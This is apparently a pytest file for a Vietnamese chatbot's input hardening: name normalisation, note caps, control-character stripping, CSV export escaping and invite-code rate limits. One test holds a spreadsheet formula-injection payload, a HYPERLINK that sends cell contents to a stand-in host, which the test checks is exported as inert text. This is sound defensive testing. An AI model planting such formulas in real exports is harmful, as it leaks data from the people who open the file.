"""What people type cannot hurt the bot or its readers: notes have a length cap and are shortened
in /xem, control characters never reach the database (NUL broke PostgreSQL), names are
NFKC-normalised, CSV cells never start a formula, and the wrong-invite-code limit holds across
/start, declining consent, other accounts of the same person and restarts."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from bot.flows.declare import MAX_NOTE
from bot.flows.engine import FlowEngine
from bot.flows.staff import NOTE_PREVIEW
from bot.storage.models import Answer, ChannelAccount, InviteFailure, Person, SubmissionEvent
from bot.storage.people import Role
from bot.text import clean_name, shorten
from tests.support.chat import Person as ChatPerson
from tests.support.images import jpeg
from tests.support.journeys import Tap, answer, answer_items, submit
from tests.support.review import make_staff, submit_citizen
from tests.support.scripts import agree, register_citizen


def test_names_are_nfkc_normalised_and_shortening_marks_the_cut():
    assert clean_name("ℌ𝔬𝔞 𝐍𝐠𝐮𝐲ễ𝐧") == "Hoa Nguyễn"  # mathematical look-alikes become plain letters
    assert clean_name("Ｎｇｕｙｅｎ Ｖａｎ Ａ") == "Nguyen Van A"  # fullwidth letters
    assert clean_name("Nguyễn\x00 Thị\x07 Hoa") == "Nguyễn Thị Hoa"
    assert shorten("một hai ba bốn năm sáu", 12) == "một hai ba…"
    assert shorten("ngắn", 12) == "ngắn"


async def test_notes_are_capped_per_answer_and_shortened_for_reviewers(engine, person, suite_app):
    hoa = person("hoa")
    await register_citizen(hoa)
    await hoa.taps("Bắt đầu")
    await hoa.taps("Đạt")
    first = "Tôi đọc sách mỗi tối cùng các cháu. " * 8  # 296 characters
    turn = await hoa.says(first)
    assert turn.text.startswith("Đã lưu ghi chú của bạn cho mục này.")
    turn = await hoa.says("Thêm nữa: " + "x" * 400)
    kept = MAX_NOTE - len(first.strip()) - 1
    assert turn.text.startswith(
        f"Đã lưu ghi chú, nhưng mỗi mục chỉ ghi được {MAX_NOTE} ký tự nên bot giữ {kept} ký tự đầu của tin này."
    )
    turn = await hoa.says("còn nữa")
    assert turn.text.startswith(f"Ghi chú của mục này đã đủ {MAX_NOTE} ký tự, tin này không được lưu thêm.")
    assert turn.choices == ["Không có ảnh"]  # still at the photo question: nothing lost
    await hoa.sends_photo(jpeg((3, 4, 5)))
    await hoa.taps("Xong")
    await answer_items(hoa, 9)
    turn = await submit(hoa)
    assert "Đã nộp hồ sơ" in turn
    async with suite_app.sessions() as session:
        note = await session.scalar(select(Answer.note).where(Answer.item_id == "1"))
    assert len(note) == MAX_NOTE and note.startswith(first.strip() + "\nThêm nữa: xxx")

    can = await make_staff(engine, "can", Role.OFFICER, "ea-tul", "Trần Văn Cán")
    turn = await can.says("/xem CD-2026-000001")
    view = turn.replies[0].text
    preview = shorten(note, NOTE_PREVIEW)
    assert note not in view and preview in view
    assert preview.endswith("…") and len(preview) <= NOTE_PREVIEW


async def test_control_characters_are_removed_before_storage(engine, person, suite_app):
    """On PostgreSQL a NUL in a name or note used to end in "bot gặp lỗi"; now it is simply gone."""
    hoa = person("hoa")
    await agree(hoa)
    await hoa.taps("Công dân học tập")
    turn = await hoa.says("Nguyễn\x00 Thị Hoa\x1b")
    assert turn.text == "Năm sinh của bạn? (ví dụ: 1975)"
    turn = await answer(hoa, "19\x0075", "2", Tap("Xác nhận"))
    assert "Đã đăng ký Công dân học tập" in turn
    await hoa.taps("Bắt đầu")
    await hoa.taps("Đạt")
    turn = await hoa.says("ghi chú\x00 có ký tự lạ\x7f\x9b\ud800 ở giữa")
    assert turn.text.startswith("Đã lưu ghi chú của bạn cho mục này.")
    async with suite_app.sessions() as session:
        stored = await session.scalar(select(Person))
        note = await session.scalar(select(Answer.note))
    assert (stored.full_name, stored.birth_year) == ("Nguyễn Thị Hoa", 1975)
    assert note == "ghi chú có ký tự lạ ở giữa"

    # A reviewer's note typed with a command is cleaned the same way.
    await hoa.sends_photo(jpeg((9, 9, 9)))
    await hoa.taps("Xong")
    await answer_items(hoa, 9)
    await submit(hoa)
    can = await make_staff(engine, "can", Role.OFFICER, "ea-tul", "Trần Văn Cán")
    turn = await can.says("/yeucau CD-2026-000001 Xin\x00 thêm ảnh")
    assert turn.text.startswith("Đã gửi yêu cầu bổ sung")
    async with suite_app.sessions() as session:
        notes = [n for n in await session.scalars(select(SubmissionEvent.note)) if n]
    assert notes == ["Xin thêm ảnh"]


async def test_csv_cells_never_start_a_formula(engine, person, suite_app):
    hoa = person("hoa")
    await submit_citizen(hoa)
    can = await make_staff(engine, "can", Role.OFFICER, "ea-tul", "Trần Văn Cán")
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
    await can.says(f"/tuchoi CD-2026-000001 {formula}")  # before the branch review: a reason
    turn = await can.says("Chi hội đã thống nhất, xã duyệt luôn")
    assert turn.text.startswith("Đã ghi: hồ sơ CD-2026-000001 (Nguyễn Thị Hoa) không được công nhận."), turn
    await can.says("/xuat")
    await can.taps("Danh sách hồ sơ")
    turn = await can.taps("CSV")
    document = turn.replies[0].document
    table = list(csv.reader(io.StringIO(document.read_text(encoding="utf-8-sig"))))
    row = next(r for r in table if r[0] == "CD-2026-000001")
    assert row[15] == "'" + formula  # the decision note, shown as text in a spreadsheet, never run
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for cell in r)


async def test_wrong_invite_codes_stay_counted(engine, person, suite_app, suite_db, tmp_path, clock):
    stranger = person("stranger")
    for _ in range(3):
        turn = await stranger.says("ma ZZZZ-2345")
        assert "Mình không tìm thấy mã mời này." in turn
    # Declining consent and /start used to forget them.
    await stranger.says("/start")
    await stranger.taps("Không đồng ý")
    await stranger.says("/start")
    await stranger.says("ma ZZZZ-3456")
    turn = await stranger.says("ma ZZZZ-4567")
    assert "Mình không tìm thấy mã mời này." in turn
    turn = await stranger.says("ma ZZZZ-5678")
    assert turn.text.startswith("Bạn đã nhập sai mã quá nhiều lần hôm nay. Ngày mai thử lại nhé.")

    # After a restart (a new process on the same database), still refused.
    from bot.app import build_app
    from bot.flows.registry import build_router

    restarted = await build_app(suite_app.settings, clock)
    try:
        again = ChatPerson(FlowEngine(restarted, build_router()), "stranger")
        turn = await again.says("ma ZZZZ-6789")
        assert turn.text.startswith("Bạn đã nhập sai mã quá nhiều lần hôm nay.")
    finally:
        await restarted.close()

    # Per person too: a registered person's other account shares the count.
    hoa = person("hoa")
    await register_citizen(hoa)
    await hoa.taps("Để sau")
    for _ in range(5):
        await hoa.says("/ma ZZZZ-2345")
    async with suite_app.sessions.begin() as session:
        hoa_id = await session.scalar(select(Person.id).where(Person.full_name == "Nguyễn Thị Hoa"))
        session.add(
            ChannelAccount(
                channel="zalo_bot",
                external_id="hoa-zalo",
                person_id=hoa_id,
                consent_at=clock.now(),
                created_at=clock.now(),
            )
        )
    turn = await person("hoa-zalo", "zalo_bot").says("/ma ZZZZ-2345")
    assert "Bạn đã nhập sai mã quá nhiều lần hôm nay." in turn

    # The next day, codes can be tried again (and yesterday's entries are cleared as new ones come).
    from datetime import timedelta

    suite_app.clock.advance(timedelta(days=3))
    turn = await stranger.says("ma ZZZZ-2345")
    assert "Mình không tìm thấy mã mời này." in turn
    async with suite_app.sessions() as session:
        account_id = await session.scalar(select(ChannelAccount.id).where(ChannelAccount.external_id == "stranger"))
        kept = list(await session.scalars(select(InviteFailure).where(InviteFailure.account_id == account_id)))
    assert len(kept) == 1
